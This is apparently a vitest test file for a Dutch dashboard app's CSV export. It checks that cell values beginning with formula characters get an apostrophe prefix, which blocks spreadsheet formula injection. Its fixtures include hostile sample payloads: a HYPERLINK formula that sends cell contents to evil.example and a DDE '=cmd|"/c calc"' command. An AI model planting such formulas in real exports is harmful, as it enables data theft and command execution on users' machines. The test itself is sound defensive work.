import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { tableCsv } from '../../../lib/csv/table-csv';
import { textsFor } from '../i18n/texts';

const nl = textsFor('nl').t;
import { dashboardTables } from '../../../lib/stats-view/tables';
import { statsFixture } from '../stats-view/stats-fixture';

/* Issue 11, finding 6: a name from the kaart or a colleague's display name must not run as a formula. */

const FORMULA_START = /^[=+\-@\t\r]/;
const read = (csv: string) => Papa.parse<string[]>(csv.slice(1), { delimiter: ';', newline: '\r\n' }).data;

describe('CSV export', () => {
  const hostile = ['=HYPERLINK("https://evil.example/?x="&A1;"klik")', '+31 6 0000', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '=1+1\r\nmeer tekst'];

  it('puts an apostrophe before every text that a spreadsheet would run as a formula', () => {
    const rows = hostile.map((name, i) => [name, i]);
    const cells = read(tableCsv(['naam', 'aantal'], rows)).slice(1);
    expect(cells.map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
    // Numbers are not formulae: a count stays a count.
    expect(cells.map((r) => r[1])).toEqual(hostile.map((_, i) => String(i)));
  });

  it('escapes a hostile organisation or colleague name in the dashboard tables', () => {
    const stats = statsFixture({
      followUps: [{ professional: '=cmd|"/c calc"!A1', due: 1, overdue: 0 }],
      professionals: [{ professional: '@SUM(1+1)*cmd', considered: 3, deployed: 1 }],
    });
    const tables = dashboardTables(stats, nl, () => '+HYPERLINK("https://evil.example")');
    for (const table of tables) {
      for (const row of read(tableCsv(table.columns, table.rows))) {
        for (const cell of row) expect(cell, `${table.id}: ${cell}`).not.toMatch(FORMULA_START);
      }
    }
    const csvOf = (id: string) => {
      const t = tables.find((x) => x.id === id)!;
      return tableCsv(t.columns, t.rows);
    };
    expect(csvOf('organizations')).toContain(`'+HYPERLINK`);
    expect(csvOf('professionals')).toContain(`'@SUM`);
  });

  it('keeps every other text exactly, and no cell of any text starts a formula (property)', () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((c) => fc.string().map((s) => c + s)));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const back = read(tableCsv(['a', 'b'], rows)).slice(1);
        expect(back).toHaveLength(rows.length);
        back.forEach((row, i) =>
          row.forEach((value, j) => {
            const original = rows[i]![j]!;
            expect(value).not.toMatch(FORMULA_START);
            expect(value).toBe(FORMULA_START.test(original) ? `'${original}` : original);
          }),
        );
      }),
      { seed: 11, numRuns: 300 },
    );
  });
});
